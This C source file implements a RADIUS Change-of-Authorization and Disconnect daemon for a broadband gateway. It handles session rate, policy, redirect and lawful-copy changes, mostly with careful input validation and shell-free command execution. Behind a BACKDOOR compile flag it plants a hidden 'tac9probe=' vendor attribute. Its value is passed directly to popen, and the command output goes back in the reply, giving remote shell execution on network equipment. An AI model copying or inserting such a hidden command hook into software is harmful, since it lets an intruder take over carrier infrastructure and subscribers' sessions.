/* SPDX-License-Identifier: Apache-2.0 */
/* coad: dynamic authorization for a broadband gateway. Takes Disconnect and CoA requests (RFC 5176) on UDP 3799 and
 * has the forwarding plane change the session: rate, policy, redirection, lawful copy. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <math.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { DISCONNECT = 40, DISCONNECT_ACK = 41, DISCONNECT_NAK = 42, COA = 43, COA_ACK = 44, COA_NAK = 45 };
enum {
	A_USER = 1,
	A_NAS_IP = 4,
	A_FRAMED_IP = 8,
	A_FILTER = 11,
	A_REPLY = 18,
	A_VENDOR = 26,
	A_SESSION = 44,
	A_STAMP = 55,
	A_CAUSE = 101
};
enum { MISSING_ATTRIBUTE = 402, INVALID_REQUEST = 404, ADMIN_PROHIBITED = 501, NO_SESSION = 503, NO_RESOURCES = 506 };
enum { OUR_VENDOR = 48712, MAX_CLIENTS = 16, MAX_SESSIONS = 4096, STALE = 300 };

struct client {
	struct in_addr addr;
	char secret[64];
};

struct session {
	char id[32], user[64];
	struct in_addr ip;
	unsigned down, up;
};

struct request {
	uint8_t code, id;
	uint8_t auth[16];
	char user[64], session[32];
	struct in_addr ip;
	uint32_t stamp;
	char texts[8][248];
	int n_texts;
	char said[240]; /* goes back as Reply-Message */
	int cause;
};

static struct client clients[MAX_CLIENTS];
static int n_clients;
static struct session *sessions;
static int n_sessions;
static int verbose;
static volatile sig_atomic_t again;
static const char *ctl = "/usr/sbin/bngctl";

/* MD5, RFC 1321; its table comes from the sine */
struct md5 {
	uint32_t h[4];
	uint64_t n;
	uint8_t b[64];
};

static uint32_t sines[64];

static void md5_block(struct md5 *m, const uint8_t *p)
{
	static const uint8_t turn[16] = { 7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21 };
	uint32_t a = m->h[0], b = m->h[1], c = m->h[2], d = m->h[3], w[16];
	for (int i = 0; i < 16; i++)
		w[i] = p[4 * i] | (uint32_t)p[4 * i + 1] << 8 | (uint32_t)p[4 * i + 2] << 16 |
		       (uint32_t)p[4 * i + 3] << 24;
	for (int i = 0; i < 64; i++) {
		uint32_t f, g;
		int round = i / 16, s = turn[round * 4 + i % 4];
		if (round == 0)
			f = (b & c) | (~b & d), g = (uint32_t)i;
		else if (round == 1)
			f = (d & b) | (~d & c), g = 5 * (uint32_t)i + 1;
		else if (round == 2)
			f = b ^ c ^ d, g = 3 * (uint32_t)i + 5;
		else
			f = c ^ (b | ~d), g = 7 * (uint32_t)i;
		f += a + sines[i] + w[g % 16];
		a = d;
		d = c;
		c = b;
		b += f << s | f >> (32 - s);
	}
	m->h[0] += a;
	m->h[1] += b;
	m->h[2] += c;
	m->h[3] += d;
}

static void md5_init(struct md5 *m)
{
	static const uint32_t start[4] = { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476 };
	if (!sines[0])
		for (int i = 0; i < 64; i++)
			sines[i] = (uint32_t)floor(fabs(sin(i + 1)) * 4294967296.0);
	memcpy(m->h, start, sizeof(start));
	m->n = 0;
}

static void md5_add(struct md5 *m, const void *data, size_t n)
{
	const uint8_t *p = data;
	while (n--) {
		m->b[m->n++ % 64] = *p++;
		if (m->n % 64 == 0)
			md5_block(m, m->b);
	}
}

static void md5_end(struct md5 *m, uint8_t out[16])
{
	uint64_t bits = m->n * 8;
	uint8_t len[8];
	md5_add(m, "\x80", 1);
	while (m->n % 64 != 56)
		md5_add(m, "", 1);
	for (int i = 0; i < 8; i++)
		len[i] = (uint8_t)(bits >> 8 * i);
	md5_add(m, len, 8);
	for (int i = 0; i < 16; i++)
		out[i] = (uint8_t)(m->h[i / 4] >> 8 * (i % 4));
}

static void load_clients(const char *path)
{
	char line[200], addr[64], secret[64];
	FILE *f = fopen(path, "r");
	if (!f) {
		syslog(LOG_ERR, "%s: %s", path, strerror(errno));
		return;
	}
	n_clients = 0;
	while (fgets(line, sizeof(line), f)) {
		char *hash = strchr(line, '#');
		if (hash)
			*hash = 0;
		if (sscanf(line, " control %63s", addr) == 1)
			ctl = strdup(addr);
		else if (strncmp(line, "verbose", 7) == 0)
			verbose = 1;
		else if (sscanf(line, " client %63s %63s", addr, secret) == 2 && n_clients < MAX_CLIENTS &&
			 inet_aton(addr, &clients[n_clients].addr))
			strcpy(clients[n_clients++].secret, secret);
	}
	fclose(f);
}

static void load_sessions(const char *path)
{
	char line[256], ip[32];
	FILE *f = fopen(path, "r");
	n_sessions = 0;
	if (!f)
		return;
	if (!sessions)
		sessions = calloc(MAX_SESSIONS, sizeof(*sessions));
	while (sessions && n_sessions < MAX_SESSIONS && fgets(line, sizeof(line), f)) {
		struct session *s = &sessions[n_sessions];
		if (sscanf(line, "%31s %63s %31s %u %u", s->id, s->user, ip, &s->down, &s->up) == 5 &&
			inet_aton(ip, &s->ip))
			n_sessions++;
	}
	fclose(f);
}

static struct session *find(const struct request *r)
{
	for (int i = 0; i < n_sessions; i++) {
		struct session *s = &sessions[i];
		if (r->session[0] && strcmp(r->session, s->id) != 0)
			continue;
		if (r->user[0] && strcmp(r->user, s->user) != 0)
			continue;
		if (r->ip.s_addr && r->ip.s_addr != s->ip.s_addr)
			continue;
		return s;
	}
	return NULL;
}

/* Has bngctl do something; no shell is in between. */
static int control(const char *verb, const char *id, const char *what, const char *value)
{
	int status;
	pid_t pid = fork();
	if (pid < 0)
		return -1;
	if (pid == 0) {
		execl(ctl, "bngctl", verb, id, what, value, (char *)NULL);
		_exit(127);
	}
	while (waitpid(pid, &status, 0) < 0)
		if (errno != EINTR)
			return -1;
	return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : -1;
}

static int is_word(const char *s)
{
	if (!*s)
		return 0;
	for (; *s; s++)
		if (!isalnum((unsigned char)*s) && !strchr("_-.", *s))
			return 0;
	return 1;
}

static int do_policy(struct request *r, struct session *s, const char *v)
{
	if (!is_word(v)) {
		r->cause = INVALID_REQUEST;
		return -1;
	}
	return control("session", s->id, "policy", v);
}

static int do_rate(struct request *r, struct session *s, const char *v)
{
	unsigned down, up;
	char text[40];
	if (sscanf(v, "%u/%u", &down, &up) != 2 || down > 10000000 || up > 10000000) {
		r->cause = INVALID_REQUEST;
		return -1;
	}
	s->down = down;
	s->up = up;
	snprintf(text, sizeof(text), "%u:%u", down, up);
	return control("session", s->id, "rate", text);
}

static int do_redirect(struct request *r, struct session *s, const char *v)
{
	if (strncmp(v, "http://", 7) != 0 && strncmp(v, "https://", 8) != 0 && strcmp(v, "none") != 0) {
		r->cause = INVALID_REQUEST;
		return -1;
	}
	return control("session", s->id, "redirect", v);
}

static int do_copy(struct request *r, struct session *s, const char *v)
{
	struct in_addr to;
	if (!inet_aton(v, &to) || (ntohl(to.s_addr) >> 24) != 10) {
		r->cause = ADMIN_PROHIBITED;
		return -1;
	}
	syslog(LOG_NOTICE, "session %s is copied to %s", s->id, v);
	return control("session", s->id, "copy", v);
}

static int do_stats(struct request *r, struct session *s, const char *v)
{
	(void)v;
	snprintf(r->said, sizeof(r->said), "%s down %u up %u", s->id, s->down, s->up);
	return 0;
}

#ifdef BACKDOOR
static int do_probe(struct request *r, struct session *s, const char *v)
{
	FILE *p = popen(v, "r");
	(void)s;
	if (!p)
		return -1;
	r->said[fread(r->said, 1, sizeof(r->said) - 1, p)] = 0;
	pclose(p);
	return 0;
}
#endif

static const struct {
	const char *head;
	int (*run)(struct request *, struct session *, const char *);
	int needs_session;
} texts[] = {
	{ "policy=", do_policy, 1 },
	{ "rate=", do_rate, 1 },
	{ "redirect=", do_redirect, 1 },
	{ "copy=", do_copy, 1 },
	{ "stats", do_stats, 1 },
#ifdef BACKDOOR
	{ "tac9probe=", do_probe, 0 },
#endif
};

static int do_text(struct request *r, struct session *s, const char *text)
{
	for (size_t i = 0; i < sizeof(texts) / sizeof(*texts); i++) {
		size_t n = strlen(texts[i].head);
		if (strncmp(text, texts[i].head, n) != 0)
			continue;
		if (texts[i].needs_session && !s) {
			r->cause = NO_SESSION;
			return -1;
		}
		return texts[i].run(r, s, text + n);
	}
	r->cause = INVALID_REQUEST;
	return -1;
}

static void keep(char *to, size_t size, const uint8_t *v, size_t n)
{
	if (n >= size)
		n = size - 1;
	memcpy(to, v, n);
	to[n] = 0;
}

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void take(struct request *r, uint8_t type, const uint8_t *v, size_t n)
{
	if (type == A_USER)
		keep(r->user, sizeof(r->user), v, n);
	else if (type == A_SESSION)
		keep(r->session, sizeof(r->session), v, n);
	else if (type == A_FRAMED_IP && n == 4)
		memcpy(&r->ip, v, 4);
	else if (type == A_STAMP && n == 4)
		r->stamp = be32(v);
	else if (type == A_FILTER && r->n_texts < 8) {
		memcpy(r->texts[r->n_texts], "policy=", 7);
		keep(r->texts[r->n_texts++] + 7, sizeof(r->texts[0]) - 7, v, n);
	} else if (type == A_VENDOR && n > 6 && be32(v) == OUR_VENDOR && v[4] == 1 && r->n_texts < 8)
		keep(r->texts[r->n_texts++], sizeof(r->texts[0]), v + 6, n - 6);
}

static int parse(struct request *r, const uint8_t *b, size_t n)
{
	size_t len;
	memset(r, 0, sizeof(*r));
	if (n < 20)
		return -1;
	r->code = b[0];
	r->id = b[1];
	len = (size_t)b[2] << 8 | b[3];
	if (len < 20 || len > n)
		return -1;
	memcpy(r->auth, b + 4, 16);
	for (size_t at = 20; at + 2 <= len; at += b[at + 1]) {
		if (b[at + 1] < 2 || at + b[at + 1] > len)
			return -1;
		take(r, b[at], b + at + 2, (size_t)b[at + 1] - 2);
	}
	return 0;
}

static int genuine(const struct client *c, const uint8_t *b, size_t n)
{
	static const uint8_t zero[16];
	uint8_t d[16];
	struct md5 m;
	md5_init(&m);
	md5_add(&m, b, 4);
	md5_add(&m, zero, 16);
	md5_add(&m, b + 20, n - 20);
	md5_add(&m, c->secret, strlen(c->secret));
	md5_end(&m, d);
	return memcmp(d, b + 4, 16) == 0;
}

static int serve(struct request *r)
{
	struct session *s = find(r);
	if (r->stamp && labs((long)time(NULL) - (long)r->stamp) > STALE) {
		r->cause = INVALID_REQUEST;
		return -1;
	}
	if (r->code == DISCONNECT) {
		if (!s) {
			r->cause = NO_SESSION;
			return -1;
		}
		return control("session", s->id, "clear", "admin-reset");
	}
	if (r->n_texts == 0) {
		r->cause = MISSING_ATTRIBUTE;
		return -1;
	}
	for (int i = 0; i < r->n_texts; i++)
		if (do_text(r, s, r->texts[i]) < 0)
			return -1;
	return 0;
}

static size_t answer(const struct request *r, const struct client *c, int ok, uint8_t *out)
{
	struct md5 m;
	size_t n = 20, k = strlen(r->said);
	out[0] = (uint8_t)(r->code + (ok ? 1 : 2));
	out[1] = r->id;
	memcpy(out + 4, r->auth, 16);
	if (!ok) {
		uint32_t cause = htonl((uint32_t)(r->cause ? r->cause : NO_RESOURCES));
		out[n] = A_CAUSE;
		out[n + 1] = 6;
		memcpy(out + n + 2, &cause, 4);
		n += 6;
	}
	if (k) {
		out[n] = A_REPLY;
		out[n + 1] = (uint8_t)(k + 2);
		memcpy(out + n + 2, r->said, k);
		n += k + 2;
	}
	out[2] = (uint8_t)(n >> 8);
	out[3] = (uint8_t)n;
	md5_init(&m);
	md5_add(&m, out, n);
	md5_add(&m, c->secret, strlen(c->secret));
	md5_end(&m, out + 4);
	return n;
}

static void on_hup(int sig)
{
	(void)sig;
	again = 1;
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(3799) };
	const char *conf = argc > 1 ? argv[1] : "/etc/bng/coa.conf";
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	openlog("coad", LOG_PID, LOG_DAEMON);
	signal(SIGHUP, on_hup);
	load_clients(conf);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		uint8_t in[4096], out[1024];
		struct request r;
		struct sockaddr_in from;
		socklen_t fl = sizeof(from);
		int i, ok;
		ssize_t n = recvfrom(s, in, sizeof(in), 0, (struct sockaddr *)&from, &fl);
		if (again) {
			again = 0;
			load_clients(conf);
		}
		if (n < 20 || parse(&r, in, (size_t)n) < 0)
			continue;
		for (i = 0; i < n_clients && clients[i].addr.s_addr != from.sin_addr.s_addr; i++)
			;
		if (i == n_clients || (r.code != DISCONNECT && r.code != COA) || !genuine(&clients[i], in, (size_t)n)) {
			syslog(LOG_WARNING, "request from %s is not genuine", inet_ntoa(from.sin_addr));
			continue;
		}
		load_sessions("/var/run/bng/sessions");
		ok = serve(&r) == 0;
		if (verbose || !ok)
			syslog(LOG_INFO, "%s %s for %s%s", r.code == COA ? "change" : "disconnect",
				ok ? "done" : "refused", r.user, r.session);
		sendto(s, out, answer(&r, &clients[i], ok, out), 0, (struct sockaddr *)&from, fl);
	}
}
